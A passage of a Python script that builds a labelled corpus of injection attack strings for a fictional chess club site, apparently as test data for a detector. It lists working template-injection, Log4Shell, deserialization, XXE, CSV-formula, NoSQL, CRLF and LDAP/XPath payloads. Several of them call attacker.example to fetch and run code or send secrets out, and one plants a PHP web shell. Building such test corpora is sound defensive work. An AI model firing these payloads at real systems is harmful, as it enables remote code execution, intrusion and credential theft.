    ("webhook-url-gopher-smtp", "gopher://127.0.0.1:25/_HELO%20x%0D%0AMAIL%20FROM:%3Cclub@castlegate-chess.example%3E%0D%0ARCPT%20TO:%3Cvictim@attacker.example%3E%0D%0ADATA%0D%0Ahi%0D%0A.%0D%0A"),
    ("broadcast-feed-solr", "http://127.0.0.1:8983/solr/admin/cores?action=STATUS&wt=json"),
    ("pgn-import-url-netdoc", "netdoc:///etc/passwd"),
    ("webhook-url-internal-api", "http://internal-api.castlegate.local/v1/admin/users"),
    ("plain-imds", "http://169.254.169.254/latest/meta-data/"),
    ("plain-localhost", "http://localhost/"),
    ("plain-file-hosts", "file:///etc/hosts"),
    ("plain-loopback-port", "http://127.0.0.1:8080/"),
    ("plain-gcp-metadata", "http://metadata.google.internal/computeMetadata/v1/"),
    ("announcement-preview-link", "Results are up! See http://127.0.0.1:5000/debug/console for the crosstable"),
]

SSRF_CTX = [
    ("pgn-import-url", "{p}"),
    ("avatar-url", "{p}?size=128"),
    ("broadcast-feed", "{p}#round-{n}"),
]
SSRF_PAY = [
    ("aws-imds-userdata", "http://169.254.169.254/latest/user-data"),
    ("loopback-admin", "http://127.0.0.1:8000/admin"),
    ("internal-db", "http://10.0.0.12:5432/"),
    ("loopback-metrics", "http://localhost:9090/metrics"),
    ("imds+ip-decimal", "http://2130706433:8080/internal/config"),
]


def tpl_ssrf(r):
    ctx, fmt = r.choice(SSRF_CTX)
    tech, p = r.choice(SSRF_PAY)
    return f"{ctx}-{tech}", fmt.format(p=p, n=r.randint(1, 9))


# ---------------------------------------------------------------- code
PICKLE_P0 = "cos\nsystem\n(S'id'\ntR."
CODE = [
    ("announcement-ssti-jinja-cycler", "{{ cycler.__init__.__globals__.os.popen('id').read() }}"),
    ("event-name-ssti-jinja-request", "{{ request.application.__globals__.__builtins__.__import__('os').popen('cat /etc/passwd').read() }}"),
    ("club-bio-ssti-jinja-config", "{{ config.items() }}"),
    ("puzzle-title-ssti-jinja-lipsum", "{{ lipsum.__globals__['os'].popen('whoami').read() }}"),
    ("announcement-ssti-jinja-subclasses", "{% for c in ''.__class__.__mro__[1].__subclasses__() %}{% if c.__name__ == 'Popen' %}{{ c(['id'],stdout=-1).communicate() }}{% endif %}{% endfor %}"),
    ("announcement-ssti-jinja-attr+hex-escape", "{{ request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fbuiltins\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fimport\\x5f\\x5f')('os')|attr('popen')('id')|attr('read')() }}"),
    ("pgn-comment-ssti-jinja", "1. e4 e5 { {{ namespace.__init__.__globals__.os.popen('id').read() }} } 2. Nf3"),
    ("event-name-ssti-twig-filter", "{{['id']|filter('system')}}"),
    ("event-name-ssti-twig-undefined-filter", "{{_self.env.registerUndefinedFilterCallback('exec')}}{{_self.env.getFilter('id')}}"),
    ("newsletter-ssti-freemarker", '<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}'),
    ("newsletter-ssti-velocity", "#set($s='')#set($rt=$s.class.forName('java.lang.Runtime'))#set($p=$rt.getRuntime().exec('id'))$p.waitFor()"),
    ("player-bio-ssti-erb-backtick", "<%= `id` %>"),
    ("player-bio-ssti-erb-file", "<%= File.read('/etc/passwd') %>"),
    ("announcement-ssti-smarty", "{system('id')}"),
    ("announcement-ssti-mako", "${__import__('os').popen('id').read()}"),
    ("announcement-ssti-mako-block", "<%import os%>${os.popen('cat /etc/passwd').read()}"),
    ("player-bio-ssti-pug", "#{global.process.mainModule.require('child_process').execSync('id')}"),
    ("player-bio-ssti-ejs", "<%= global.process.mainModule.require('child_process').execSync('id') %>"),
    ("puzzle-title-ssti-nunjucks", "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}"),
    ("announcement-ssti-tornado", "{% import os %}{{ os.popen('id').read() }}"),
    ("announcement-ssti-django-debug", "Club night recap {% debug %}"),
    ("announcement-python-format-string", "Welcome {member.__init__.__globals__[app].config[SECRET_KEY]}!"),
    ("event-name-spel-dollar", "${T(java.lang.Runtime).getRuntime().exec('id')}"),
    ("event-name-spel-hash", "#{T(java.lang.Runtime).getRuntime().exec('touch /tmp/spel')}"),
    ("search-ognl", "%{(#rt=@java.lang.Runtime@getRuntime()).(#rt.exec('id'))}"),
    ("player-name-jsf-el", "#{''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('id')}"),
    ("board-theme-thymeleaf-preprocess", "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x"),
    ("pgn-header-log4shell", '[White "${jndi:ldap://attacker.example:1389/a}"]'),
    ("player-name-log4shell", "${jndi:ldap://203.0.113.5/Exploit}"),
    ("pgn-header-log4shell+case-lookup", '[Black "${${lower:j}ndi:${lower:l}dap://attacker.example/x}"]'),
    ("user-agent-log4shell+default-lookup", "${${::-j}${::-n}${::-d}${::-i}:rmi://attacker.example/o}"),
    ("event-name-log4shell-env-exfil", "${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.attacker.example/}"),
    ("search-log4shell-sys-exfil", "${jndi:ldap://${sys:java.version}.attacker.example/v}"),
    ("search-log4shell+urlenc", "%24%7Bjndi%3Aldap%3A%2F%2Fattacker.example%2Fa%7D"),
    ("settings-import-yaml-python-apply", "!!python/object/apply:os.system ['curl http://attacker.example/y | sh']"),
    ("settings-import-yaml-python-new", "theme: merida\nboard: !!python/object/new:subprocess.check_output [['id']]"),
    ("settings-import-snakeyaml", '!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://attacker.example/y.jar"]]]]'),
    ("session-php-object", 'O:10:"Tournament":1:{' + php_s("pgn_file") + php_s("/etc/passwd") + "}"),
    ("cookie-php-destruct-gadget", 'O:9:"CacheFile":2:{' + php_s("path") + php_s("/var/www/html/uploads/x.php") + php_s("data") + php_s('<?php system($_GET["c"]); ?>') + "}"),
    ("saved-analysis-pickle-p0", PICKLE_P0),
    ("saved-analysis-pickle+base64", base64.b64encode(PICKLE_P0.encode()).decode()),
    ("profile-node-serialize", '{"nick":"_$$ND_FUNC$$_function(){require(\'child_process\').exec(\'id\')}()"}'),
    ("saved-analysis-jsonpickle", '{"py/reduce": [{"py/function": "os.system"}, {"py/tuple": ["id"]}]}'),
    ("chessml-upload-xxe-file", '<?xml version="1.0"?>\n<!DOCTYPE game [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n<game><white>&xxe;</white><black>Zhang</black><result>1-0</result></game>'),
    ("chessml-upload-xxe-oob-dtd", '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % ext SYSTEM "http://attacker.example/x.dtd"> %ext;]><round n="3"/>'),
    ("crosstable-xml-xxe-ssrf", '<?xml version="1.0"?><!DOCTYPE t [<!ENTITY m SYSTEM "http://169.254.169.254/latest/meta-data/iam/security-credentials/">]><crosstable><note>&m;</note></crosstable>'),
    ("chessml-upload-xinclude", '<board xmlns:xi="http://www.w3.org/2001/XInclude"><fen><xi:include parse="text" href="file:///etc/hostname"/></fen></board>'),
    ("chessml-upload-entity-expansion", '<?xml version="1.0"?><!DOCTYPE g [<!ENTITY a "pawnpawnpawnpawn"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;"><!ENTITY e "&d;&d;&d;&d;&d;&d;&d;&d;">]><game>&e;&e;&e;&e;&e;&e;&e;&e;</game>'),
    ("board-image-svg-xxe", '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY k SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg"><text x="0" y="20">&k;</text></svg>'),
    ("settings-json-proto-pollution", '{"__proto__": {"isAdmin": true}}'),
    ("settings-json-constructor-pollution", '{"constructor": {"prototype": {"isArbiter": true}}}'),
    ("settings-form-proto-pollution", "settings[__proto__][isAdmin]=true"),
    ("settings-json-proto-pollution-rce", '{"__proto__": {"shell": "/proc/self/exe", "argv0": "console.log(require(\'child_process\').execSync(\'id\').toString())//", "NODE_OPTIONS": "--require /proc/self/cmdline"}}'),
    ("board-prefs-dotpath-proto-pollution", "board.__proto__.polluted=yes"),
    ("crosstable-csv-hyperlink", '=HYPERLINK("https://attacker.example/?d="&A1&B1,"Click for tie-breaks")'),
    ("player-name-csv-dde", "=cmd|' /C calc'!A0"),
    ("player-name-csv-dde-plus", "+SUM(1+1)*cmd|' /C powershell -nop -c iex(iwr attacker.example/p)'!A0"),
    ("club-name-csv-at", "@SUM(1+9)*cmd|' /C notepad'!A0"),
    ("rating-csv-minus-dde", "-2+3+cmd|' /C calc'!A0"),
    ("crosstable-csv-importxml", '=IMPORTXML(CONCAT("https://attacker.example/x?",CONCATENATE(A2:E2)),"//a")'),
    ("crosstable-csv-webservice", '=WEBSERVICE("https://attacker.example/?"&A2&B2)'),
    ("tiebreak-formula-python-eval", "__import__('os').system('id')"),
    ("tiebreak-formula-python-lambda", "(lambda: __import__('subprocess').check_output('cat /etc/passwd', shell=True))()"),
    ("tiebreak-formula-python-subclasses", "[c for c in ().__class__.__base__.__subclasses__() if c.__name__=='catch_warnings'][0]()._module.__builtins__['__import__']('os').popen('id').read()"),
    ("tiebreak-formula-js-require", "require('child_process').execSync('id').toString()"),
    ("tiebreak-formula-js-constructor", "this.constructor.constructor('return process')().mainModule.require('child_process').execSync('id')"),
    ("plain-ssti-jinja", "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}"),
    ("plain-log4shell", "${jndi:ldap://attacker.example/a}"),
    ("plain-csv-formula", "=1+1+cmd|' /C calc'!A0"),
    ("plain-proto-pollution", '{"__proto__": {"polluted": "yes"}}'),
    ("plain-spel", "${T(java.lang.Runtime).getRuntime().exec('whoami')}"),
    ("plain-yaml-python", "!!python/object/apply:os.system ['id']"),
    ("pgn-comment-ssti-jinja-multiline", "1. d4 d5\n{ {% set x = cycler.__init__.__globals__.os %}\n{{ x.popen('cat /etc/passwd').read() }} }\n2. c4"),
    ("player-name-ssti-jinja+unicode-escape", "{{ ()|attr('\\u005f\\u005fclass\\u005f\\u005f')|attr('\\u005f\\u005fbase\\u005f\\u005f')|attr('\\u005f\\u005fsubclasses\\u005f\\u005f')() }}"),
]

CODE_CTX = [
    ("pgn-header", '[Event "{p}"]'),
    ("announcement", "Club news: {p}"),
    ("player-name", "{name} {p}"),
]
CODE_PAY = [
    ("ssti-jinja", "{{ cycler.__init__.__globals__.os.popen('uname -a').read() }}"),
    ("log4shell", "${jndi:ldap://198.51.100.7:1389/c}"),
    ("ssti-freemarker", '${"freemarker.template.utility.Execute"?new()("id")}'),
    ("spel", "#{T(java.lang.Runtime).getRuntime().exec('id')}"),
    ("ssti-mako", "${self.module.cache.util.os.system('id')}"),
]


def tpl_code(r):
    ctx, fmt = r.choice(CODE_CTX)
    tech, p = r.choice(CODE_PAY)
    return f"{ctx}-{tech}", fmt.format(p=p, name=r.choice(["Zhang", "Okafor", "Ahmed", "Kim", "Lindqvist"]))


# ---------------------------------------------------------------- nosqli
NOSQLI = [
    ("login-json-ne", '{"username": {"$ne": null}, "password": {"$ne": null}}'),
    ("login-form-ne", "username[$ne]=x&password[$ne]=x"),
    ("login-json-regex-bruteforce", '{"username": {"$regex": "^adm"}, "password": {"$regex": "^a"}}'),
    ("player-search-where-sleep", '{"$where": "sleep(5000) || true"}'),
    ("club-pin-json-gt", '{"club_pin": {"$gt": ""}}'),
    ("player-search-where-string-break", "Kasparov'; return true; var x='"),
    ("player-search-where-dos", "Karpov'; while(true){}; var y='"),
    ("player-search-where-regex-leak", "Tal' || this.password_hash.match(/^\\$2b/) || '"),
    ("login-json-in-list", '{"username": "arbiter", "password": {"$in": ["arbiter", "chess123", "castlegate", "1234"]}}'),
    ("member-filter-expr", '{"$expr": {"$gt": [{"$strLenCP": "$password_hash"}, 0]}}'),
    ("game-pipeline-lookup", '[{"$lookup": {"from": "members", "localField": "white", "foreignField": "username", "as": "w"}}, {"$project": {"w.password_hash": 1}}]'),
    ("fen-search-regex-exists", '{"fen": {"$regex": ".*"}, "owner.password_hash": {"$exists": true}}'),
    ("eco-query-regex-options", "eco[$regex]=.*&eco[$options]=s"),
    ("login-json-gt", '{"username": {"$gt": ""}, "password": {"$gt": ""}}'),
    ("member-search-where-admin", '{"$where": "this.role == \'admin\' && this.password_hash.length > 0"}'),
    ("member-filter-function", '{"$expr": {"$function": {"body": "function(){ sleep(4000); return true; }", "args": [], "lang": "js"}}}'),
    ("password-reset-regex-ne", '{"email": {"$regex": "^admin@", "$options": "i"}, "reset_token": {"$ne": ""}}'),
    ("login-form-ne+urlenc", "username%5B%24ne%5D=x&password%5B%24ne%5D=x"),
    ("login-json-ne+unicode-escape", '{"username": "admin", "password": {"\\u0024ne": "wrong"}}'),
    ("plain-ne-null", '{"$ne": null}'),
    ("plain-gt-empty", '{"$gt": ""}'),
    ("plain-where-true", '{"$where": "1 == 1"}'),
]

NOSQLI_CTX = [
    ("rating-filter-json", '{{"username": "{name}", "rating": {p}}}'),
    ("player-lookup-json", '{{"username": {p}}}'),
]
NOSQLI_PAY = [
    ("ne", '{"$ne": -1}'),
    ("gt", '{"$gt": ""}'),
    ("regex", '{"$regex": ".*"}'),
    ("nin", '{"$nin": []}'),
]


def tpl_nosqli(r):
    ctx, fmt = r.choice(NOSQLI_CTX)
    tech, p = r.choice(NOSQLI_PAY)
    return f"{ctx}-{tech}", fmt.format(p=p, name=r.choice(["zhang", "ahmed", "kim", "okafor", "patel", "reilly"]))


# ---------------------------------------------------------------- crlf
CRLF = [
    ("move-log-forge", "e4\r\n2024-03-12 19:04:11 INFO user=admin action=login result=success ip=10.0.0.2"),
    ("player-name-audit-log-forge", "Zhang\n[AUDIT] rating of Zhang set to 2800 by arbiter Hughes"),
    ("game-redirect-set-cookie+urlenc", "/games/42%0d%0aSet-Cookie:%20sid=fixated;%20Path=/"),
    ("pairings-next-location+urlenc", "/pairings%0D%0ALocation:%20https://attacker.example/"),
    ("round-redirect-response-splitting", "/r3\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>"),
    ("contact-from-bcc", "secretary@castlegate-chess.example\r\nBcc: list@relay.attacker.example"),
    ("entry-form-subject-cc-body", "Entry for Summer Swiss\r\nCc: all-members@castlegate-chess.example\r\n\r\nUrgent: renew your membership at https://attacker.example/pay"),
    ("arbiter-email-smtp-rcpt", "arbiter@castlegate-chess.example>\r\nRCPT TO:<spam@attacker.example>\r\nDATA\r\nSubject: hi\r\n\r\nfree tickets\r\n.\r\n"),
    ("player-name-log+unicode-nel", "Ahmed\u0085[INFO] password reset for admin completed"),
    ("player-name-x-forwarded", "Okafor\r\nX-Forwarded-For: 127.0.0.1"),
    ("move-log-ansi-escape", "Nf3\u001b[2J\u001b[1;31mCRITICAL: disk failure, run /tmp/fix.sh as root\u001b[0m"),
    ("game-redirect-set-cookie+double-urlenc", "/games/42%250d%250aSet-Cookie:%2520admin=1"),
    ("lang-redirect-header+unicode-truncation", "/fr/嘊嘍Set-Cookie:%20sid=attacker"),
    ("pgn-export-tag-injection", 'Kim"]\n[Result "1-0"]\n[WhiteElo "2900'),
    ("crosstable-csv-row-injection", "Patel\r\nAdmin,2900,7/7,1st"),
    ("log-json-field-injection", "Reilly\",\"level\":\"INFO\",\"user\":\"admin\",\"msg\":\"login ok"),
    ("event-name-syslog-forge", "Club Open\n<13>Mar 12 19:04:11 chess-web sshd[812]: Accepted password for root from 10.0.0.2"),
    ("newsletter-subject-content-type", "Newsletter #43\r\nContent-Type: text/html\r\n\r\n<a href=https://attacker.example>Renew</a>"),
    ("download-filename-content-disposition", "crosstable.csv\r\nContent-Type: text/html\r\n\r\n<script>alert(document.domain)</script>"),
    ("callback-location-header", "https://castlegate-chess.example/\r\nLocation: https://attacker.example/phish"),
    ("pgn-comment-log-forge", "1. e4 {ok}\n2024-03-12T19:05:00Z level=warn msg=\"integrity check disabled by admin\""),
    ("plain-crlf-set-cookie", "\r\nSet-Cookie: session=attacker"),
    ("plain-crlf-encoded+urlenc", "%0d%0aX-Injected: 1"),
    ("plain-lf-log", "\n[ERROR] admin session token=FAKE-TOKEN-0000 leaked"),
    ("plain-crlf-location", "\r\nLocation: https://attacker.example/"),
    ("contact-name-header-lf-only", "Hughes\nBcc: members@castlegate-chess.example, spam@attacker.example"),
]

CRLF_CTX = [
    ("player-name-log", "{name}{p}"),
    ("redirect-param", "/games/{n}{p}"),
]
CRLF_PAY = [
    ("crlf-header", "\r\nSet-Cookie: sid=fixed-{n}"),
    ("lf-log-forge", "\n[INFO] arbiter approved result for game {n}"),
    ("crlf-header+urlenc", "%0d%0aLocation:%20https://attacker.example/{n}"),
]


def tpl_crlf(r):
    ctx, fmt = r.choice(CRLF_CTX)
    tech, p = r.choice(CRLF_PAY)
    n = r.randint(10, 999)
    return f"{ctx}-{tech}", fmt.format(name=r.choice(["Zhang", "Ahmed", "Kim"]), n=n, p=p.format(n=n))


# ---------------------------------------------------------------- ldap / xpath
LDAPX = [
    ("member-directory-ldap-or-wildcard", "*)(uid=*))(|(uid=*"),
    ("member-login-ldap-and-true", "admin)(&)"),
    ("member-directory-ldap-objectclass", "*)(|(objectClass=*)"),
    ("member-directory-ldap-password-blind", "okafor)(userPassword=a*"),
    ("member-login-ldap-not-false", "admin)(!(&(1=0"),
    ("member-login-ldap-nullbyte+urlenc", "admin*))%00"),
    ("member-directory-ldap-group-probe", "zhang)(|(memberOf=cn=admins,ou=groups,dc=castlegate,dc=example)"),
    ("member-directory-ldap-cn-wildcard", "*)(cn=*))(|(cn=*"),
    ("arbiter-lookup-ldap-description-leak", "*)(description=*pass*"),
    ("crosstable-xpath-tautology", "' or '1'='1"),
    ("player-xpath-tautology-name", "Zhang' or 1=1 or 'a'='a"),
    ("tournament-xpath-union-nodes", "'] | //member/password | //x['"),
    ("tournament-xpath-count-probe", "' or count(//member)>0 or '"),
    ("member-xpath-substring-blind", "' or substring(//member[1]/password,1,1)='a' or '"),
    ("tournament-xpath-root-name", "x' or name(/*[1])='tournament' or '"),
    ("board-xpath-numeric", "1 or 1=1"),
    ("round-xpath-paren-tautology", "') or ('1'='1"),
    ("player-xpath-doc-oob", "' or doc('http://attacker.example/x.xml') or '"),
    ("member-xpath-strlen-blind", "' or string-length(//member[position()=1]/pin)=4 or '"),
    ("plain-xpath-tautology", "' or 1=1 or ''='"),
    ("plain-ldap-wildcard", "*"),
]

LDAPX_CTX = [
    ("member-directory-ldap", "{name}{p}"),
    ("crosstable-xpath", "{name}{q}"),
]


def tpl_ldapx(r):
    ctx, fmt = r.choice(LDAPX_CTX)
    name = r.choice(["zhang", "ahmed", "kim", "okafor", "patel"])
    if "ldap" in ctx:
        tech, p = r.choice([("or-inject", ")(|(uid=*"), ("attr-probe", ")(mail=*@castlegate-chess.example"), ("wildcard-tail", "*)(objectClass=person")])
        return f"{ctx}-{tech}", fmt.format(name=name, p=p, q="")
    tech, q = r.choice([("tautology", "' or ''='"), ("union-nodes", "'] | //password | //a['"), ("count-probe", "' or count(//admin)=1 or '")])
    return f"{ctx}-{tech}", fmt.format(name=name, p="", q=q)


CATEGORIES = [
    ("sqli", SQLI, tpl_sqli, 77),
    ("xss", XSS, tpl_xss, 77),
    ("cmdi", CMDI, tpl_cmdi, 70),
    ("traversal", TRAV, tpl_traversal, 52),
    ("ssrf", SSRF, tpl_ssrf, 52),
    ("code", CODE, tpl_code, 78),
    ("nosqli", NOSQLI, tpl_nosqli, 25),
    ("crlf", CRLF, tpl_crlf, 30),
    ("ldap-xpath", LDAPX, tpl_ldapx, 22),
]


def main():
    r = random.Random(SEED)
    rows = []
    seen = set()
    report = []
    literal_total = 0
    for cat, literals, tpl, target in CATEGORIES:
        n = lit = 0
        for cls, v in literals:
            if v in seen:
                raise SystemExit(f"duplicate literal in {cat}: {v!r}")
            seen.add(v)
            rows.append({"category": cat, "class": cls, "label": "attack", "value": v})
            n += 1
            lit += 1
        tries = 0
        while n < target:
            tries += 1
            if tries > 10000:
                raise SystemExit(f"template for {cat} cannot produce enough unique values")
            cls, v = tpl(r)
            if v in seen:
                continue
            seen.add(v)
            rows.append({"category": cat, "class": cls, "label": "attack", "value": v})
            n += 1
        literal_total += lit
        report.append((cat, n, lit))
    out = []
    for i, row in enumerate(rows, 1):
        out.append({"id": f"{PREFIX}-{i:05d}", "category": row["category"], "class": row["class"],
                    "label": "attack", "value": row["value"]})
    for o in out:
        v = o["value"]
        assert isinstance(v, str) and v and len(v) <= 1800, o
    values = [o["value"] for o in out]
    assert len(values) == len(set(values)), "duplicate values"
    path = Path(__file__).with_name("attacks.jsonl")
    with open(path, "w", encoding="utf-8", newline="\n") as f:
        for o in out:
            f.write(json.dumps(o, ensure_ascii=False) + "\n")
    for cat, n, lit in report:
        print(f"{cat:11s} {n:4d}  literals {lit:3d}")
    plain = sum(1 for o in out if o["class"].startswith("plain-"))
    enc = sum(1 for o in out if "+" in o["class"])
    print(f"total {len(out)}  literals {literal_total} ({100 * literal_total / len(out):.1f}%)  plain {plain}  encoded {enc}")


if __name__ == "__main__":
    main()
